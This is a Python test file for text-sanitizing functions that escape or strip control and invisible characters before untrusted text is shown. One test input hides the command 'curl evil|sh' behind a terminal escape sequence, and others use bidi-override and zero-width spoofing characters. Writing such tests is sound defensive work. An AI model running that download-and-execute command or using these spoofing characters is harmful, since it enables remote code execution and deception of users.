"""Text from outside, made safe to show or shown whole."""

from __future__ import annotations

import json
import unicodedata
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.text import replace_surrogates, show_controls, strip_controls


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("ls \x1b]0;x\n curl evil|sh #\x07", "ls \\x1b]0;x\n curl evil|sh #\\x07"),
        ("a\u202eb", "aU+202Eb"),
        ("\x9b31m", "\\x9b31m"),
        ("pay\u200bpal", "payU+200Bpal"),
        ("\U000e0041", "U+E0041"),
        ("\ufe0f\u3164", "U+FE0FU+3164"),
        ("caf\u00e9 \u4f60\u597d", "caf\u00e9 \u4f60\u597d"),
    ],
)
def test_what_is_approved_shows_every_character(text: str, shown: str) -> None:
    assert show_controls(text) == shown


@given(st.text())
def test_nothing_without_a_glyph_is_left(text: str) -> None:
    shown = show_controls(text)
    assert all(unicodedata.category(c)[0] != "C" for c in shown if c not in "\n\t")
    assert len(shown) >= len(text)


@given(st.text())
def test_what_is_said_holds_nothing_a_terminal_acts_on(text: str) -> None:
    assert not any(ord(c) < 0x20 and c not in "\n\t" for c in strip_controls(text))


_JSON = st.recursive(
    st.none() | st.booleans() | st.text(st.characters()),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(st.characters()), inner),
)


@given(_JSON)
def test_decoded_json_can_be_encoded(value: Any) -> None:
    json.dumps(replace_surrogates(value), ensure_ascii=False).encode()
